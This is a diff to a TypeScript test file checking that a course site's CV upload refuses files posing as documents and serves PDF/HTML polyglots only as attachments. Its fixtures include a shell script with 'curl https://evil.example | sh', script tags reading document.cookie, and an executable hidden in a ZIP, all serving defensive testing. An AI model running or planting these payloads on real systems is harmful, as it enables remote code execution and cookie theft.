@@ -8,7 +8,7 @@ import sharp from 'sharp';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { courseFields, createCourse, createInstructor } from '../support/builders.ts';
 import { createTestContext, type TestContext } from '../support/context.ts';
-import { exeBytes, jpegWithExifBytes, pdfBytes, pngBytes, zipBytes } from '../support/fixtures.ts';
+import { exeBytes, jpegWithExifBytes, pdfBytes, pdfFile, pngBytes, zipBytes } from '../support/fixtures.ts';
 import { DOCX_CONTENT_TYPES, multipartType, pixelFloodPng, rawMultipart, type RawPart, uploadFolders } from './hostile.ts';
 
 /** Deflated, so that megabytes of zeros fit in a small upload. */
@@ -136,6 +136,7 @@ describe('programs and pages posing as documents', () => {
     ['a shell script renamed cv.pdf', Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'), 'cv.pdf'],
     ['HTML after a byte-order mark and blank lines', Buffer.from('\ufeff\n\n  <!doctype html><html><script>alert(document.cookie)</script></html>'), 'cv.pdf'],
     ['HTML that mentions %PDF- further in', Buffer.from('<html><body>%PDF-1.4<script>alert(1)</script></body></html>'), 'cv.pdf'],
+    ['HTML after a %PDF- header, with no PDF structure', Buffer.from('%PDF-1.4\n<!doctype html><html><script>alert(document.cookie)</script></html>\n%%EOF\n'), 'cv.pdf'],
     ['a Windows executable inside a ZIP renamed cv.docx', zipBytes({ 'setup.exe': exeBytes() }), 'cv.docx'],
   ])('refuses %s as a CV with 415', async (_label, content, filename) => {
     await expectRefused(() => upload(CV, { filename, content, contentType: 'application/pdf' }), 415, 'cv_type');
@@ -153,7 +154,8 @@ describe('programs and pages posing as documents', () => {
   });
 
   it('serves a PDF that also holds HTML only as a PDF attachment, never as a page', async () => {
-    const polyglot = Buffer.from('%PDF-1.4\n<!doctype html><html><script>alert(document.cookie)</script></html>\n%%EOF\n');
+    const html = '<!doctype html><html><script>alert(document.cookie)</script></html>';
+    const polyglot = pdfFile('%PDF-1.4\n', ['<< /Type /Catalog >>', `<< /Length ${html.length} >>\nstream\n${html}\nendstream`]);
     const response = await upload(CV, { filename: 'cv.html', content: polyglot, contentType: 'text/html' });
     expect(response.statusCode).toBe(201);
     expect(response.json().cvOriginalName).toBe('cv.pdf');
